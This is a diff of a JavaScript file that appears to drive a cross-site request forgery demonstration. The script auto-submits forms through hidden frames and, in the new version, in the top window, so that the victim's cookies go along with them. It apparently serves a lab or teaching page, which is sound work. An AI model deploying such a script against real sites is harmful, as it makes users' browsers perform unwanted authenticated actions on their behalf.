@@ -1,13 +1,14 @@
-// The script of the other site: it sends each form without being asked, waits
-// until its answer is there, and tells that it is done. What the answers say it
-// cannot read: they are another site's.
+// The script of the other site. It sends forms without being asked: two in hidden
+// frames, and one in the window itself, where browsers are most generous with
+// cookies. What is answered it cannot read: that is another site's.
 "use strict";
 
 const PATIENCE_MS = 3000;
+const calm = window.matchMedia("(prefers-reduced-motion: reduce)").matches;
 
-function send(form) {
+function submit(form) {
   return new Promise((done) => {
-    const frame = form.nextElementSibling;
+    const frame = document.getElementsByName(form.target)[0];
     frame.addEventListener("load", done, { once: true });
     setTimeout(done, PATIENCE_MS);
     form.submit();
@@ -15,11 +16,10 @@ function send(form) {
 }
 
 (async () => {
-  let forms = 0;
-  for (const form of document.forms) {
-    await send(form);
-    forms += 1;
-  }
-  const target = document.documentElement.dataset.target;
-  window.top.postMessage(JSON.stringify({ report: "forged", forms }), target);
+  for (const form of document.querySelectorAll("form[target]")) await submit(form);
+  // For those who watch.
+  if (!calm) await new Promise((done) => setTimeout(done, 900));
+  const form = document.querySelector("form:not([target])");
+  if (form) form.submit();
+  else window.location.replace(document.links[0].href);
 })();
